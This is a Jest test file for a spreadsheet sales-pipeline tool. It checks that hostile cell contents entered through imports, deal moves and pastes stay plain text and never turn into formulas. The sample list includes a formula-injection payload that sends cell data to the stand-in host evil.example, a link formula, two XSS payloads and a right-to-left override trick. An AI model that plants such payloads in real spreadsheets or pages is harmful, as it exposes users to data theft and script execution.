/** Hostile content in cells, files and arguments: nothing of it is executed, nothing is silently changed. */

import { cpSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, test } from '@jest/globals';
import { dealsRange } from '../support/deals';
import { distFolder } from '../support/dist';
import { temporaryFolder } from '../support/script';
import { brokenWholeness, changesById } from '../support/whole';
import { at, cell, newPipeline, rowsOf, rowWhere } from '../support/workbook';

const LONG = 'x'.repeat(50_000);
/** Texts that a sheet, a page or a program that reads the file could take for something to do. */
const TEXTS = {
  'a formula': '=1+1',
  'a formula that sends data': '=IMPORTXML(CONCAT("http://evil.example/?",A1:A9),"//a")',
  'a link formula': '=HYPERLINK("http://evil.example","Click")',
  'a plus': '+1+1',
  'a minus': '-2+3',
  'an at sign': '@SUM(1,1)',
  'a tab and a formula': '\t=1+1',
  'a line break and a formula': 'a\n=1+1',
  'a script element': '<script>alert(1)</script>',
  'an image that runs script': '<img src=x onerror=alert(1)>',
  'an entity': '&lt;b&gt;&amp;',
  'an apostrophe': "'quoted",
  'a date': '2026-01-02',
  'a number with zeros': '007',
  'a truth value': 'TRUE',
  'an error': '#REF!',
  'a right-to-left text': 'صفقة ٣ – עסקה',
  'a right-to-left override': '\u202Egnp.exe',
  'a null character': 'a\u0000b',
  'a marker': 'D-0000000000|Won|2026-11-24T01:00:00.000Z',
  'a prototype key': '__proto__',
  'control characters that once divided cells': 'a\u001fb\u001ec',
  'the separators of joined cells': 'a\u241fb\u241ec\u241b1',
  'a text of 50,000 characters': LONG,
};
const CASES = Object.entries(TEXTS).map(([name, text]) => ({ name, text }));

/** A field of a CSV file. */
const quoted = (text: string) => `"${text.replace(/"/g, '""')}"`;

describe.each(CASES)('$name', ({ text }) => {
  test('stays that text as a name, a company, a note and a field of a move, and never becomes a formula', async () => {
    const workbook = await newPipeline();
    const csv = `Source ID,Deal,Company,Stage,Amount,Notes\nS-1,${quoted(text)},${quoted(text)},Lead,5,plain`;
    const { created, skipped } = (await workbook.run('importDeals', { csv })) as {
      created: number;
      skipped: unknown[];
    };
    expect({ created, skipped }).toEqual({ created: 1, skipped: [] });
    const dealId = await cell(workbook, 'Deals!A2');
    await workbook.run('moveDeal', { dealId, to: 'Lost', reason: text, fields: { Notes: text } });
    await workbook.run('reconcile');
    const [deal] = await rowsOf(workbook, 'Deals');
    const trimmed = text.trim();
    expect(
      [deal?.Deal, deal?.Company, deal?.Notes, deal?.['Close reason']].map((value) => String(value).trim()),
    ).toEqual([trimmed, trimmed, trimmed, trimmed]);
    expect((await workbook.formulas('Deals!A1:AZ5')).flat().filter((formula) => formula !== '')).toEqual([]);
    expect((await changesById(workbook)).get(String(dealId))).toEqual(['>Lead', 'Lead>Lost']);
    expect(await workbook.run('getDeal', { dealId })).toMatchObject({ deal: trimmed, company: trimmed });
    expect(await workbook.run('reconcile')).toEqual({ appended: 0, assigned: 0, problems: [] });
  });

  test('is an unknown stage, refused by name, and a stage where the table has it', async () => {
    const workbook = await newPipeline();
    // As another program writes it: a text, with the apostrophe that keeps it one.
    const stored = text.startsWith("'") ? `'${text}` : `'${text.slice(0, 40)}`;
    const name = stored.slice(1).trim();
    await workbook.paste('Deals!B2', [['A', 'Lead', 1]]);
    const dealId = await cell(workbook, 'Deals!A2');
    await expect(workbook.run('moveDeal', { dealId, to: name })).rejects.toThrow('Lead, Qualified');
    await workbook.apiWrite('Stages!A9', [['B2B sales', stored, 0.5, 'Open', 14, '', 'Pipeline']]);
    if (text === TEXTS['an error']) {
      await expect(workbook.run('moveDeal', { dealId, to: name })).rejects.toThrow('sheet "Stages" shows #REF!');
      return;
    }
    await workbook.run('moveDeal', { dealId, to: name });
    expect(String(await cell(workbook, 'Deals!C2')).trim()).toBe(name);
    expect((await workbook.formulas(dealsRange(2))).flat().join('')).toBe('');
    expect((await workbook.formulas('Stage history!A2:G9')).flat().join('')).toBe('');
    const last = (await rowsOf(workbook, 'Stage history')).at(-1);
    expect([last?.From, String(last?.To).trim()]).toEqual(['Lead', name]);
    expect(await workbook.run('reconcile')).toEqual({ appended: 0, assigned: 0, problems: [] });
  });

  test('pasted by a person is left as it was pasted', async () => {
    const workbook = await newPipeline();
    await workbook.paste('Deals!B2', [[`'${text}`, 'Lead', 1, `'${text}`]]);
    const before = await workbook.values('Deals!B2:T2');
    await workbook.type('Deals!C2', 'Won');
    await workbook.run('reconcile');
    const after = await workbook.values('Deals!B2:T2');
    expect(after).toEqual([[before[0]?.[0], 'Won', ...(before[0]?.slice(2) ?? [])]]);
    expect(await brokenWholeness(workbook)).toEqual([]);
  });
});

test.each([
  ['negative', -1500],
  ['huge', 1e308],
  ['tiny', 1e-300],
  ['text with a currency', "'RM 1,500"],
  ['an error', '=1/0'],
  ['true', true],
])('an amount that is %s stays as it is, and is logged as a number or not at all', async (_, amount) => {
  const workbook = await newPipeline();
  await workbook.apiWrite('Deals!B2', [['A', 'Lead', amount]]);
  const before = await workbook.values('Deals!D2');
  await workbook.run('reconcile');
  await workbook.type('Deals!C2', 'Won');
  expect(await workbook.values('Deals!D2')).toEqual(before);
  for (const entry of await rowsOf(workbook, 'Stage history')) {
    expect(entry.Amount).toEqual(typeof before[0]?.[0] === 'number' ? before[0][0] : '');
  }
  expect(await workbook.run('reconcile')).toMatchObject({ appended: 0, assigned: 0 });
});

test.each([
  ['the year 0', -693_593],
  ['the year 9999', 2_958_465],
  ['a text', 'next spring'],
  ['a boolean', true],
  ['a negative serial number', -1],
])('%s in every date column is neither an error nor changed', async (_, date) => {
  const workbook = await newPipeline();
  await workbook.apiWrite('Deals!B2', [['A', 'Lead', 1]]);
  for (const column of ['Expected close', 'Next step due', 'Snoozed until', 'Created', 'Stage since', 'Closed']) {
    await workbook.apiWrite(await at(workbook, column, 2), [[date]]);
  }
  const dates = ['Expected close', 'Next step due', 'Snoozed until', 'Created'];
  const before = await rowWhere(workbook, 'Deals', 'Deal', 'A');
  await workbook.run('reconcile');
  const dealId = await cell(workbook, 'Deals!A2');
  await workbook.run('getDeal', { dealId });
  await workbook.run('moveDeal', { dealId, to: 'Won' });
  const after = await rowWhere(workbook, 'Deals', 'Deal', 'A');
  expect(dates.map((column) => after[column])).toEqual(dates.map((column) => before[column]));
  expect((await changesById(workbook)).get(String(dealId))).toEqual(['>Lead', 'Lead>Won']);
  expect(await brokenWholeness(workbook)).toEqual([]);
});

test('hidden rows and columns and protected cells are followed like any others', async () => {
  const folder = temporaryFolder();
  cpSync(distFolder, folder, { recursive: true });
  const [, rows] = dealsRange(2, 4).split('!');
  const other = `function hideAndProtect() {
    var sheet = SpreadsheetApp.getActive().getSheetByName('Deals');
    sheet.hideRows(3, 2);
    sheet.hideColumns(3, 2);
    sheet.getRange('${rows}').protect().setWarningOnly(true);
  }`;
  writeFileSync(join(folder, 'Other.js'), other);
  const workbook = await newPipeline({ project: folder });
  await workbook.paste('Deals!B2', [
    ['A', 'Lead', 1],
    ['B', 'Lead', 2],
    ['C', 'Lead', 3],
  ]);
  await workbook.run('hideAndProtect');
  await workbook.fill('Deals!C2', 'Deals!C2:C4');
  await workbook.paste('Deals!C2', [['Won'], ['Won'], ['Won']]);
  await workbook.sort(dealsRange(2, 4), 4, false);
  expect(await workbook.run('reconcile')).toMatchObject({ appended: 0, assigned: 0 });
  const changes = await changesById(workbook);
  expect([...changes.values()]).toEqual(Array(3).fill(['>Lead', 'Lead>Won']));
  expect(await brokenWholeness(workbook)).toEqual([]);
});
